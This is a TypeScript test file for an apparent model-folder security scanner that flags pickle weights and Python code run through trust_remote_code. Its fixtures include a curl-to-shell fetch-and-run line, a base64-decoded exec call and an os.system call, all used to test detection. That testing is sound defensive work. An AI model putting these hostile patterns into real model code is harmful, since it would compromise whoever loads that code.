import { describe, expect, it } from 'vitest';
import type { Artifact, Finding } from '../../core/finding.js';
import { type ReadScannedFile, withLayoutFindings } from './layout.js';

const artifact = (path: string, format = 'unknown'): Artifact => ({
  path,
  kind: 'other',
  format,
  size: 1,
  sha256: '',
});

/** A scan of in-memory files: formats given, everything else 'unknown'. */
function scanFolder(
  files: Record<string, string>,
  formats: Record<string, string> = {},
  findings: Finding[] = [],
) {
  const artifacts = Object.keys(files).map((p) =>
    artifact(p, formats[p] ?? (p.endsWith('.json') ? 'json' : 'unknown')),
  );
  const read: ReadScannedFile = (path, max) => {
    const text = files[path];
    return text === undefined ? undefined : new TextEncoder().encode(text).subarray(0, max);
  };
  return withLayoutFindings(findings, artifacts, read);
}

const summary = (found: readonly Finding[]) =>
  found.map((f) => `${f.ruleId}:${f.severity} ${f.location.path}`);

describe('layout findings', () => {
  it('points pickle checkpoints at the safetensors weights in the same folder only', () => {
    const found = withLayoutFindings(
      [],
      [
        artifact('m/model.safetensors', 'safetensors'),
        artifact('m/pytorch_model.bin', 'pytorch-zip'),
        artifact('m/tokenizer.json', 'json'),
        artifact('other/pytorch_model.bin', 'pytorch-zip'),
        artifact('m/sub/old.pt', 'pytorch-legacy'),
      ],
    );
    expect(summary(found)).toEqual(['HF-PICKLE-WEIGHTS:low m/pytorch_model.bin']);
    expect(found[0]?.message).toContain('m/model.safetensors');
  });
});

describe('Python code that trust_remote_code runs', () => {
  const config = JSON.stringify({
    model_type: 'my',
    auto_map: {
      AutoConfig: 'configuration_my.MyConfig',
      AutoModel: 'modeling_my.MyModel',
      AutoTokenizer: ['tokenization_my.MyTokenizer', 'other/repo--tokenization_fast.Fast'],
    },
  });
  const analyserFinding: Finding = {
    ruleId: 'HF-REMOTE-CODE',
    severity: 'high',
    title: 't',
    message: 'modules only',
    location: { path: 'repo/config.json' },
    evidence: '',
    remediation: '',
    references: [],
  };

  it('lists the referenced files, what they import relatively, and what is missing, replacing the analyser finding', () => {
    const found = scanFolder(
      {
        'repo/config.json': config,
        'repo/model.safetensors': '',
        'repo/configuration_my.py': 'from transformers import PretrainedConfig\n',
        'repo/modeling_my.py':
          'import torch\nfrom .layers import Block\nfrom .configuration_my import MyConfig\n',
        'repo/layers.py': 'import torch.nn as nn\n    from .helpers import f\n',
        'repo/helpers.py': 'def f(x):\n    return x.eval()\n',
      },
      { 'repo/model.safetensors': 'safetensors' },
      [analyserFinding],
    );
    const remote = found.filter((f) => f.ruleId === 'HF-REMOTE-CODE');
    expect(remote).toHaveLength(1);
    expect(remote[0]?.message).toContain(
      '4 Python file(s) of this folder: repo/configuration_my.py, repo/helpers.py, repo/layers.py, repo/modeling_my.py',
    );
    expect(remote[0]?.message).toContain(
      'missing here (downloaded from the hub at load time, unreviewed): repo/tokenization_my.py',
    );
    expect(remote[0]?.message).toContain('other/repo: tokenization_fast.py');
    // Every Python file is referenced and clean: nothing more to say about them.
    expect(summary(found)).toEqual(['HF-REMOTE-CODE:high repo/config.json']);
  });

  it('reports Python files no configuration references at medium, and risky ones at high with the lines', () => {
    const found = scanFolder({
      'repo/config.json': config,
      'repo/modeling_my.py': 'import os\n# os.system("commented out")\nos.system("curl http://x | sh")\n',
      'repo/train.py': 'model.eval()\nx = re.compile("a")\ntorch.compile(model)\n',
      'repo/payload.py': 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n',
      'repo/tok.py': 'data = base64.b64decode(s)\n',
      'elsewhere/script.py': 'os.system("id")\n',
    });
    expect(summary(found)).toEqual([
      'HF-REMOTE-CODE:high repo/config.json',
      'HF-PYTHON-CODE:high repo/modeling_my.py',
      'HF-PYTHON-CODE:high repo/payload.py',
      'HF-PYTHON-CODE:medium repo/tok.py',
      'HF-PYTHON-CODE:medium repo/train.py',
    ]);
    const modeling = found.find((f) => f.location.path === 'repo/modeling_my.py');
    expect(modeling?.evidence).toBe('3: os.system("curl http://x | sh")');
    expect(modeling?.message).toContain('trust_remote_code=True runs it');
    const payload = found.find((f) => f.location.path === 'repo/payload.py');
    expect(payload?.message).toContain('decodes hidden data, evaluates code');
  });

  it('treats diffusers component folders as part of the pipeline, and ignores folders that are not model repositories', () => {
    const found = scanFolder({
      'pipe/model_index.json': '{"_class_name": "StableDiffusionPipeline"}',
      'pipe/unet/my_unet.py': 'import torch\n',
      'project/src/tool.py': 'import subprocess\n',
      'project/package.json': '{"name": "x"}',
    });
    expect(summary(found)).toEqual(['HF-PYTHON-CODE:medium pipe/unet/my_unet.py']);
  });

  it('is bounded on import cycles and reads nothing it was not given', () => {
    const found = scanFolder({
      'r/config.json': JSON.stringify({ auto_map: { AutoModel: 'a.A' } }),
      'r/a.py': 'from .b import x\n',
      'r/b.py': 'from .a import y\nimport .c\n',
    });
    expect(found[0]?.message).toContain('runs 2 Python file(s) of this folder: r/a.py, r/b.py');
    expect(found[0]?.message).toContain(
      'missing here (downloaded from the hub at load time, unreviewed): r/c.py',
    );
  });
});
